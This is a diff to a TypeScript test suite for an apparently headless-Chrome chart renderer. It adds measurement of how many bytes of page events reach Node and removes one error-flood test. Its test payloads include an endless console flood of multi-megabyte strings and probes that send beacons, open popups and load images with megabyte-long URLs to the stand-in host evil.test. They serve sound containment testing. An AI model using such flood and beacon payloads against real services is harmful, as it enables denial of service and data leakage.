@@ -5,6 +5,10 @@ import { expect } from 'chai';
 import { BAR, post, startTestServer, type TestServer } from '../helpers/server.js';
 import { decodePng, isPng } from '../helpers/images.js';
 import type { SqliteStore } from '../../src/store/sqlite/index.js';
+import type { CDPSession, Page } from 'puppeteer-core';
+
+/** Page events that carry caller-controlled strings to Node. */
+const WATCHED = ['Runtime.consoleAPICalled', 'Runtime.exceptionThrown', 'Log.entryAdded', 'Network.requestWillBeSent', 'Audits.issueAdded'] as const;
 
 const SVG_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";
 
@@ -170,7 +174,29 @@ describe('containment: bounded output that cannot script (issue 11)', function (
   });
 
   describe('console and network floods', () => {
-    async function rssDuring(chart: Record<string, unknown>): Promise<{ deltaMb: number; status: number }> {
+    /** Bytes of page events (console, errors, network, issues, log) that reach Node while `fn` runs. */
+    async function eventBytesDuring<T>(fn: () => Promise<T>): Promise<{ result: T; bytes: number }> {
+      const pages = (s.deps.pool as unknown as { livePages: Set<{ page: Page }> }).livePages;
+      let bytes = 0;
+      const count = (e: unknown) => {
+        bytes += JSON.stringify(e ?? null).length;
+      };
+      const clients = [...pages].map((rp) => (rp.page as unknown as { _client(): CDPSession })._client());
+      for (const c of clients) for (const ev of WATCHED) c.on(ev, count);
+      try {
+        return { result: await fn(), bytes };
+      } finally {
+        for (const c of clients) for (const ev of WATCHED) c.off(ev, count);
+      }
+    }
+
+    async function rssDuring(chart: Record<string, unknown>): Promise<{ deltaMb: number; status: number; eventMb: number }> {
+      const { result, bytes } = await eventBytesDuring(() => rssOf(chart));
+      if (process.env.DEBUG_FLOOD) console.log('event MB', bytes / 1048576);
+      return { ...result, eventMb: bytes / 1048576 };
+    }
+
+    async function rssOf(chart: Record<string, unknown>): Promise<{ deltaMb: number; status: number }> {
       global.gc?.();
       const before = process.memoryUsage().rss;
       let peak = before;
@@ -194,20 +220,12 @@ describe('containment: bounded output that cannot script (issue 11)', function (
         var f = document.createElement('iframe'); document.body.appendChild(f); var w = window[0];
         var logs = [console.log, w && w.console && w.console.log, f.contentWindow && f.contentWindow.console.log];
         for (;;) { for (var i = 0; i < logs.length; i++) if (logs[i]) logs[i](big); console.error(big); }`;
-      const { deltaMb, status } = await rssDuring(withTickFn(flood));
+      const { deltaMb, status, eventMb } = await rssDuring(withTickFn(flood));
       expect(status, 'the render times out').to.equal(500);
+      expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
       expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
       const next = await send(BAR);
       expect(next.status).to.equal(200);
-    });
-
-    it('uncaught errors and rejections with 10 MB messages are not forwarded to Node', async () => {
-      const flood = `var big = 'e'.repeat(10 * 1024 * 1024);
-        for (var i = 0; i < 40; i++) { Promise.reject(new Error(big)); setTimeout(function(){ throw new Error(big); }, 0); }`;
-      const { deltaMb, status } = await rssDuring(withTickFn(flood));
-      expect(status).to.equal(200);
-      expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
-      expect((await send(BAR)).status).to.equal(200);
     });
 
     it('fetch, XHR, WebSocket, sendBeacon and window.open are gone; image requests with huge URLs stay bounded', async () => {
@@ -216,8 +234,9 @@ describe('containment: bounded output that cannot script (issue 11)', function (
         if (navigator.sendBeacon('http://evil.test/', 'x') !== false || window.open('http://evil.test/') !== null) throw new Error('beacon or popup');
         var u = 'http://evil.test/' + 'u'.repeat(1024 * 1024);
         for (var i = 0; i < 100; i++) { new Image().src = u + i; }`;
-      const { deltaMb, status } = await rssDuring(withTickFn(probe));
+      const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
       expect(status).to.equal(200);
+      expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
       expect(deltaMb, `Node RSS grew ${deltaMb.toFixed(0)} MB`).to.be.below(150);
     });
   });
